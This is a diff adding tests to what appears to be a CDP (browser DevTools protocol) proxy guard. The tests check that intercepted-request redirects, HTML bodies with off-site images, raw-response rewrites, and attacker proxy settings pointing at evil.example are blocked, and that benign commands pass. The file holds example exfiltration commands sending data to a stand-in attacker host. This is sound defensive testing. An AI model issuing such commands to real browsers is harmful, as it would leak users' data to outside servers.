@@ -258,3 +258,34 @@ t.test('control: code and markup naming the allowed site or no site go on (Playw
   ];
   t.same(await session(msgs, [], 'browser.example'), { code: 1000, replies: msgs.length }, 'all answered');
 });
+
+// What a command makes the browser take as the network's answer, or where it sends a context's
+// traffic (twentieth pass): an intercepted request answered `302 Location: https://evil.example/?d=…`
+// (in `responseHeaders` or base64 `binaryResponseHeaders`), answered with a page whose image is on
+// another site, continued as raw bytes, and a browser context whose proxy is the attacker's server.
+t.test('an intercepted request answered with a redirect or page elsewhere, or a context proxied elsewhere, closes the socket', async (t) => {
+  const b64 = (s: string): string => Buffer.from(s).toString('base64');
+  for (const msg of [
+    cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 302, responseHeaders: [{ name: 'Location', value: 'https://evil.example/?d=4111' }] }),
+    cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 302, binaryResponseHeaders: b64('Location\u0000https://evil.example/?d=4111') }),
+    cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 200, responseHeaders: [{ name: 'Content-Type', value: 'text/html' }], body: b64('<img src="//evil.example/?d=4111">') }),
+    cdp('Fetch.continueResponse', { requestId: 'r1', responseCode: 301, responseHeaders: [{ name: 'location', value: 'http://4111.evil.example/' }] }),
+    cdp('Network.continueInterceptedRequest', { interceptionId: 'i1', rawResponse: b64('HTTP/1.1 302 Found\r\nLocation: https://evil.example/?d=4111\r\n\r\n') }),
+    cdp('Network.continueInterceptedRequest', { interceptionId: 'i1', url: 'https://evil.example/?d=4111' }),
+    cdp('Target.createBrowserContext', { proxyServer: 'http://evil.example:8080', proxyBypassList: '' }),
+    cdp('Target.createBrowserContext', { proxyServer: 'socks5://evil.example:1080' }),
+  ]) t.equal((await session([JSON.stringify(msg)], [], 'browser.example')).code, 1008, `${String(msg.method)} ${JSON.stringify(msg.params).slice(0, 60)}`);
+  t.notOk(ranText().includes('evil'), 'nothing reached the browser');
+});
+
+t.test('control: an intercepted request answered or continued on the allowed site, a context without a proxy, go on', async (t) => {
+  const msgs = [
+    JSON.stringify(cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 302, responseHeaders: [{ name: 'Location', value: 'https://docs.example/guide' }] })),
+    JSON.stringify(cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 200, body: Buffer.from('{"ok":true,"items":[1,2]}').toString('base64') })),
+    JSON.stringify(cdp('Fetch.continueResponse', { requestId: 'r1' })),
+    // A JPEG whose XMP metadata names namespaces by URL: an image loads nothing.
+    JSON.stringify(cdp('Fetch.fulfillRequest', { requestId: 'r2', responseCode: 200, responseHeaders: [{ name: 'Content-Type', value: 'image/jpeg' }], body: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe1, 0x00, 0x10]), Buffer.from('http://ns.adobe.com/xap/1.0/\u0000<x:xmpmeta xmlns:dc="http://purl.org/dc/elements/1.1/">'), Buffer.from([0xff, 0xd9])]).toString('base64') })),
+    JSON.stringify(cdp('Target.createBrowserContext', { disposeOnDetach: true })),
+  ];
+  t.same(await session(msgs, [], 'browser.example'), { code: 1000, replies: msgs.length }, 'all answered');
+});
